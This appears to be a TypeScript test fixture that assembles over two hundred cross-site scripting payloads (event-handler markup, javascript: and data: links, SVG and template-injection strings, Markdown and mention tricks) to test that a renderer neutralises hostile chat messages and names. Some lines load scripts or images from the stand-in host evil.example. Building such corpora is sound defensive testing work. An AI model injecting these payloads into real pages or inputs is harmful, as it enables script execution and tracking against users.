import { hostileMarkup } from './hostile-markup.ts';

const run = 'alert(1)';
const id = 'a'.repeat(32);

const handlers = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['ontoggle', 'onbeforeinput', 'onscrollend', 'onwheel', 'oncopy', 'onpaste', 'onpageshow'],
];
const elements = [
  ...['a', 'audio', 'button', 'details', 'dialog', 'form', 'frame', 'frameset', 'iframe', 'img', 'input'],
  ...['isindex', 'link', 'marquee', 'meta', 'object', 'portal', 'select', 'slot', 'style', 'svg', 'template'],
  ...['textarea', 'video', 'x-element'],
];
const parts = [
  'animate',
  'foreignObject',
  'feImage',
  'handler',
  'listener',
  'set',
  'title',
  'textPath',
  'use',
];
const schemes = [
  ...['javascript:', 'JAVASCRIPT:', 'java\nscript:', ' javascript:', '\u00a0javascript:', 'javascript&#58;'],
  ...['javascript&colon;', 'jav&#x61;script:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,'],
  ...['blob:', 'filesystem:', 'view-source:', 'about:blank#', 'intent:', 'ms-word:ofe|u|', 'feed:', 'ws:'],
];

/** What a name, a title or a purpose can be: one line. */
const lines = [
  ...handlers.map((handler) => `<b ${handler}=${run} style="animation:x" tabindex=1 contenteditable>x</b>`),
  ...elements.map(
    (element) => `<${element} src=//evil.example/x href=javascript:${run} onload=${run}>x</${element}>`,
  ),
  ...parts.map((part) => `<svg><${part} onbegin=${run} href=javascript:${run} /></svg>`),
  '"><script src="//evil.example/x.js"></script>',
  "'><img src=//evil.example/p.gif onerror=alert(1)>",
  '` onclick=alert(1) `',
  '\u202e<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '${alert(1)}',
  '#{alert(1)}',
  '{{#with this}}{{lookup this "constructor"}}{{/with}}',
  '{{> (lookup . "x")}}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<a href="//evil.example" target=_top ping="//evil.example/ping">x</a>',
  '<img srcset="//evil.example/a 1x" loading=eager>',
];

/** Only what is rendered as Markdown makes something of these. */
const texts = [
  ...schemes.map((scheme) => `[klick](${scheme}${run})`),
  ...schemes.slice(0, 12).map((scheme) => `<${scheme}${run}>`),
  `@[<script>${run}</script>](person:${id})`,
  `@[" onclick="${run}](person:${id})`,
  `@[x](person:${id}" onclick="${run})`,
  `@[<img src=x onerror=${run}>](all)`,
  `@[[klick](javascript:${run})](all)`,
  `@[x](javascript:${run})`,
  `[@[x](all)](javascript:${run})`,
  `[x](@[y](all))`,
  `**@[<b onclick=${run}>](person:${id})**`,
  `\`@[<script>${run}</script>](all)\``,
  `<span class="mention" data-person="${id}" onclick=${run}>@Anna</span>`,
  `<span class="mention" data-person='"><script>${run}</script>'>@Anna</span>`,
  `https://evil.example/"onmouseover="${run}`,
  `https://evil.example/<script>${run}</script>`,
  `http://evil.example/'onclick='${run}`,
  `www.evil.example"onclick=${run}`,
  `javascript:${run}//https://evil.example`,
  `mailto:x@evil.example?subject=<script>${run}</script>`,
  `"><script>${run}</script>@evil.example`,
  `> > > <img src=x onerror=${run}>`,
  `- [ ] <script>${run}</script>`,
  `1. <svg onload=${run}>`,
  `~~<script>${run}</script>~~`,
  `***<img src=x onerror=${run}>***`,
  `\\<script>${run}\\</script>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`\`\`"onclick="${run}\nx\n\`\`\``,
  `    <script>${run}</script>`,
  `[x]: javascript:${run}\n\n[x]`,
  `[x][y]\n\n[y]: data:text/html,<script>${run}</script>`,
  `![x][y]\n\n[y]: //evil.example/p.gif`,
  `[![x](//evil.example/p.gif)](javascript:${run})`,
  `| <script>${run}</script> |\n|---|`,
  `<details open ontoggle=${run}>\n\n**x**\n\n</details>`,
  `a<!-- --!><img src=x onerror=${run}>-->`,
];

const isSayable = (text: string): boolean => !/\u0001/.test(text);

/** More than two hundred texts that want to run, load or lead somewhere they must not. */
export const hostileMessages: string[] = [
  ...new Set([...hostileMarkup.filter(isSayable), ...lines, ...texts]),
];

/** Those that fit into a name or a title. */
export const hostileLines: string[] = [
  ...lines,
  ...hostileMarkup.filter((text) => isSayable(text) && text.length <= 80 && !/\s\s|[\n\t]/.test(text)),
].filter((text) => text.length <= 80);
